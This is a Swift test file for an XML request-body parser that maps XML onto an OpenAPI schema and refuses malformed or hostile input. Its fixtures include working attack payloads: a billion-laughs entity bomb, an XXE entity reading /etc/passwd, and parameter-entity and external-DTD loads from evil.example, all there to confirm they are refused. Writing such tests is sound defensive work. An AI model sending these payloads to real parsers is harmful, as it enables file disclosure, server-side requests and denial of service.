import GatehouseJSON
import GatehouseSpec
import Testing

@testable import GatehouseValidation

struct XMLBodyParserTests {
    static let petContent = """
        {application/xml: {schema: {$ref: '#/components/schemas/Pet'}}, 'application/*+xml': {}, text/xml: {}}
        """
    static let components = """
        {schemas: {Pet: {type: object, xml: {name: pet}, properties: {
          id: {type: integer, xml: {attribute: true}},
          name: {type: string},
          tags: {type: array, xml: {wrapped: true}, items: {type: string, xml: {name: tag}}},
          photos: {type: array, items: {type: string, xml: {name: photoUrl}}},
          owner: {type: object, properties: {age: {type: integer}, adult: {type: boolean}}},
          nick: {type: string, xml: {name: nickname}}}}}}
        """

    static func decode(_ xml: String, contentType: String = "application/xml") -> BodyDecoder.Decoded {
        let decoder = InlineSpec.bodyDecoder(petContent, components: components)
        return decoder.decode(contentType: contentType, body: Array(xml.utf8))
    }

    @Test func mapsElementsAndAttributesOntoTheSchemaWithItsXMLObjects() {
        let decoded = Self.decode(
            """
            <?xml version="1.0" encoding="UTF-8"?>
            <p:pet xmlns:p="urn:pets" id="7">
              <p:name>Rex &amp; co</p:name>
              <tags><tag>a</tag><tag>b</tag></tags>
              <photoUrl>u1</photoUrl><photoUrl>u2</photoUrl>
              <owner><age> 30 </age><adult>true</adult></owner>
              <nickname><![CDATA[<R>]]></nickname>
              <extra>z</extra>
            </p:pet>
            """)
        #expect(decoded.issues == [])
        #expect(
            decoded.value
                == json(
                    #"{"id": 7, "name": "Rex & co", "tags": ["a", "b"], "photos": ["u1", "u2"], "owner": {"age": 30, "adult": true}, "nick": "<R>", "extra": "z"}"#
                ))
    }

    @Test func readsXMLSuffixTypesWithoutASchema() {
        let decoded = Self.decode(#"<a x="1"><b>2</b><b>3</b><c>t</c></a>"#, contentType: "application/atom+xml")
        #expect(decoded.issues == [])
        #expect(decoded.value == json(#"{"x": "1", "b": ["2", "3"], "c": "t"}"#))
    }

    static let billionLaughs = """
        <?xml version="1.0"?>
        <!DOCTYPE lolz [
          <!ENTITY lol "lol">
          <!ENTITY lol1 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">
          <!ENTITY lol2 "&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;">
          <!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">
          <!ENTITY lol4 "&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;">
          <!ENTITY lol5 "&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;">
          <!ENTITY lol6 "&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;">
          <!ENTITY lol7 "&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;">
          <!ENTITY lol8 "&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;">
          <!ENTITY lol9 "&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;">
        ]>
        <pet><name>&lol9;</name></pet>
        """

    struct BadRow: Sendable, CustomTestStringConvertible {
        var name: String
        var xml: String
        var expected: String
        var testDescription: String { name }
    }

    @Test(arguments: [
        BadRow(
            name: "billion laughs", xml: billionLaughs,
            expected:
                "body: expected XML without entity declarations, found a DOCTYPE that declares entities (refused, never expanded)"
        ),
        BadRow(
            name: "external entity (XXE)",
            xml:
                #"<?xml version="1.0"?><!DOCTYPE pet [<!ENTITY xxe SYSTEM "file:///etc/passwd">]><pet><name>&xxe;</name></pet>"#,
            expected:
                "body: expected XML without entity declarations, found a DOCTYPE that declares entities (refused, never expanded)"
        ),
        BadRow(
            name: "parameter entity",
            xml: #"<!DOCTYPE pet [<!ENTITY % remote SYSTEM "http://evil.example/x.dtd"> %remote;]><pet/>"#,
            expected:
                "body: expected XML without entity declarations, found a DOCTYPE that declares entities (refused, never expanded)"
        ),
        BadRow(
            name: "external DTD", xml: #"<!DOCTYPE pet SYSTEM "http://evil.example/pet.dtd"><pet/>"#,
            expected: "body: expected XML without an external DTD, found a DOCTYPE with a SYSTEM or PUBLIC identifier"),
        BadRow(
            name: "other encoding", xml: #"<?xml version="1.0" encoding="UTF-7"?><pet/>"#,
            expected: "body: expected XML encoded as UTF-8, found encoding 'utf-7'"),
        BadRow(
            name: "processing instruction without data (crashed FoundationXML)", xml: "<?x.02?>\n<pet/>",
            expected: "body: expected XML without processing instructions, found '<?x.02'"),
        BadRow(
            name: "declaration without data (crashed FoundationXML)", xml: "<?xml?>6",
            expected: "body: expected XML without processing instructions, found '<?xml'"),
        BadRow(
            name: "processing instruction after the declaration",
            xml: #"<?xml version="1.0"?><?xml-stylesheet href="a.xsl"?><pet/>"#,
            expected: "body: expected XML without processing instructions, found '<?xml-stylesheet'"),
        BadRow(
            name: "undeclared entity", xml: "<pet><name>&lol;</name></pet>",
            expected:
                "body: invalid XML at line 1, column 17: expected a declared entity, found an undeclared entity reference"
        ),
        BadRow(
            name: "mismatched tag", xml: "<pet><name>x</nam></pet>",
            expected: "body: invalid XML at line 1, column 19: expected the matching end tag, found a different one"),
        BadRow(
            name: "truncated", xml: "<pet><name>x",
            expected:
                "body: invalid XML at line 1, column 12: expected the document to end with the root element's end tag, found it cut short or followed by more content"
        ),
        BadRow(
            name: "content after the root", xml: "<pet/><pet/>",
            expected:
                "body: invalid XML at line 1, column 7: expected the document to end with the root element's end tag, found it cut short or followed by more content"
        ),
        BadRow(
            name: "deep nesting", xml: String(repeating: "<a>", count: 1000) + String(repeating: "</a>", count: 1000),
            expected: "body: expected XML nested at most 128 elements deep, found deeper"),
    ])
    func refusesOrReportsBadXML(_ row: BadRow) {
        let decoded = Self.decode(row.xml)
        #expect(decoded.issues.map(\.description) == [row.expected])
        #expect(decoded.issues.map(\.keyword) == ["xml"])
        #expect(decoded.value == nil)
    }

    /// An element name with bytes that are not UTF-8 crashed the server in FoundationXML (bench/fuzz's FuzzXML); it
    /// is refused before parsing, while a document declared ISO-8859-1 is still read.
    @Test func refusesBytesThatAreNotUTF8() {
        let decoder = InlineSpec.bodyDecoder(Self.petContent, components: Self.components)
        let broken = Array("<pet><own".utf8) + [0xFF, 0xFF] + Array("er>x</owner></pet>".utf8)
        let decoded = decoder.decode(contentType: "application/xml", body: broken)
        #expect(
            decoded.issues.map(\.description) == [
                "body: expected XML encoded as UTF-8, found a byte that is not UTF-8 at offset 9"
            ])
        let latin1 =
            Array(#"<?xml version="1.0" encoding="ISO-8859-1"?><pet><name>Andr"#.utf8) + [0xE9]
            + Array("</name></pet>".utf8)
        let read = decoder.decode(contentType: "application/xml", body: latin1)
        #expect(read.issues == [])
        #expect(read.value == json(#"{"name": "André"}"#))
    }

    @Test func refusesUTF16Documents() {
        let decoder = InlineSpec.bodyDecoder(Self.petContent, components: Self.components)
        let decoded = decoder.decode(contentType: "application/xml", body: [0xFF, 0xFE, 0x3C, 0x00])
        #expect(
            decoded.issues.map(\.description) == [
                "body: expected XML encoded as UTF-8, found a UTF-16 or UTF-32 document"
            ])
    }

    @Test func groupsAHundredThousandRepeatedChildren() {
        let xml = "<list>" + String(repeating: "<item>x</item>", count: 100_000) + "<other>y</other></list>"
        let decoded = Self.decode(xml, contentType: "text/xml")
        #expect(decoded.issues == [])
        #expect(decoded.value?["item"]?.arrayValue?.count == 100_000)
        #expect(decoded.value?["other"] == .string("y"))
    }
}
